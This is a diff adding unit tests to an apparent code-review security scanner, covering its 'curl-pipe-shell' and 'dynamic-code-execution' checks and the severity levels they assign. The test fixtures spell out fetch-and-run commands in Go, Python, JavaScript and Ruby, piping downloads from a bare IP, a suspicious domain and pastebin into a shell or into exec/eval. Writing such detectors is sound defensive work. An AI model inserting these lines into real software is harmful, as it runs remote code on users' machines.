@@ -1313,3 +1313,42 @@ describe('secret-added: keyboard runs', () => {
     expect(idsOf('tests/Util/UrlTest.php', ["            ['https://ghp***@github.com/acme/repo', 'https://ghp_Zx8Qw3Lm5Nb7Vc9Rt1Yu4Io6Pa2Sd0Fg8Hj3@github.com/acme/repo'],"])).toEqual(['secret-added']);
   });
 });
+
+describe('curl-pipe-shell in program code: a command string that downloads a script and runs it', () => {
+  const severityOf = (path: string, lines: string[], id = 'curl-pipe-shell') => scan([makeFile(path, { patch: hunk(lines) })]).find((f) => f.id === id)?.severity;
+  it('a Go init that runs `wget -O - … | /bin/bash` is high; from a bare IP or over plain HTTP, critical', () => {
+    expect(severityOf('util/helper.go', ['\texec.Command("/bin/sh", "-c", "wget -O - https://monsoletter.icu/storage/de373d0df/a31546bf | /bin/bash &").Start()'])).toBe('high');
+    expect(severityOf('util/helper.go', ['\texec.Command("/bin/sh", "-c", "wget -O - http://45.77.12.9/a31546bf | /bin/bash &").Start()'])).toBe('critical');
+    expect(severityOf('pkg/helper.py', ["os.system('curl -fsSL http://cdn-pkg-mirror.dev/init.sh | sh')"])).toBe('critical');
+  });
+  it('reads JavaScript, Python, Ruby and Java; a command assigned to a name that a process call of the hunk runs', () => {
+    expect(severityOf('lib/helper.js', ["require('child_process').execSync('curl -fsSL https://cdn-pkg-mirror.dev/init.sh | bash');"])).toBe('high');
+    expect(severityOf('pkg/helper.py', ['CMD = "curl -s https://cdn-pkg-mirror.dev/i | python3"', 'subprocess.run(CMD, shell=True)'])).toBe('high');
+    expect(severityOf('lib/helper.rb', ["system('curl -s https://cdn-pkg-mirror.dev/i | bash')"])).toBe('high');
+    expect(severityOf('util/run.go', ['\tcmd := "curl -s https://cdn-pkg-mirror.dev/i | sh"', '\texec.Command("sh", "-c", cmd).Run()'])).toBe('high');
+  });
+  it("a well-known tool's installer run by a setup command is medium", () => {
+    expect(severityOf('src/commands/setup.ts', ["  execSync('curl -fsSL https://bun.sh/install | bash', { stdio: 'inherit' });"])).toBe('medium');
+  });
+  it('an install hint printed, or a command in a hunk that runs another, is not reported; shell scripts are read by their own reader', () => {
+    expect(severityOf('src/doctor.ts', ["  console.log('Install bun: curl -fsSL https://bun.sh/install | bash');", "  execSync('bun --version');"])).toBeUndefined();
+    expect(severityOf('src/doctor.go', ['\thint := "curl -fsSL https://get.example.dev | sh"', '\tfmt.Println(hint)', '\texec.Command("go", "version").Run()'])).toBeUndefined();
+    expect(severityOf('pkg/install.py', ['# os.system("curl -s https://x.example/i | sh")'])).toBeUndefined();
+    expect(severityOf('scripts/setup.sh', ['curl -fsSL https://get.example.dev | sh'])).toBeUndefined();
+    expect(severityOf('tests/test_install.py', ["os.system('curl -s https://cdn-pkg-mirror.dev/i | sh')"])).toBeUndefined();
+  });
+});
+
+describe('dynamic-code-execution of downloaded code', () => {
+  const sink = (path: string, lines: string[]) => scan([makeFile(path, { patch: hunk(lines) })]).find((f) => f.id === 'dynamic-code-execution');
+  it('exec of what requests.get or fetch returns is high; from a paste host or a bare IP, critical', () => {
+    expect(sink('pkg/helper.py', ["exec(requests.get('https://cdn-pkg-mirror.dev/init.py').text)"])?.severity).toBe('high');
+    expect(sink('pkg/helper.py', ["r = urllib.request.urlopen('https://pastebin.com/raw/x1y2')", 'exec(r.read())'])?.severity).toBe('critical');
+    expect(sink('lib/helper.js', ["fetch('https://cdn-pkg-mirror.dev/init.js').then((r) => r.text()).then((t) => eval(t));"])?.severity).toBe('high');
+    expect(sink('lib/helper.js', ["fetch('http://45.77.12.9/init.js').then((r) => r.text()).then((t) => eval(t));"])?.title).toContain('suspicious source');
+  });
+  it('eval without a download in its hunk keeps its ordinary severity; a download without a code sink is no finding', () => {
+    expect(sink('pkg/helper.py', ['exec(compile(source, path, "exec"))'])?.severity).toBe('medium');
+    expect(sink('pkg/client.py', ["data = requests.get('https://api.example.com/v1/items').json()"])).toBeUndefined();
+  });
+});
